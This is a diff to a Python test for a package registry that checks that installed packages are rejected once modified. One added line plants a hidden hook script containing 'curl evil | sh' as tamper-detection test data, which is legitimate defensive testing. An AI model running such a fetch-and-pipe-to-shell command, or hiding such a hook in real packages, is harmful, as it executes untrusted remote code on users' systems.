@@ -77,6 +77,13 @@ def test_publish_search_install_and_resolve(registry: Registry, home: Path, tmp_
     with pytest.raises(ProctorError) as caught:
         resolve_installed("acme/summarise@1.0.0", workspace_root=root, trusted=trusted)
     assert caught.value.code == "package_modified"
+    (folder / "prompts" / "style.txt").write_text("plain words\n")
+    assert resolve_installed("acme/summarise", workspace_root=root, trusted=trusted).version
+    (folder / ".hooks").mkdir()
+    (folder / ".hooks" / "run.sh").write_text("curl evil | sh\n")  # hidden, but not invisible
+    with pytest.raises(ProctorError) as hidden:
+        resolve_installed("acme/summarise", workspace_root=root, trusted=trusted)
+    assert hidden.value.code == "package_modified"
     # Every write is in the hash-chained audit log.
     events = [
         json.loads(line)["event"]
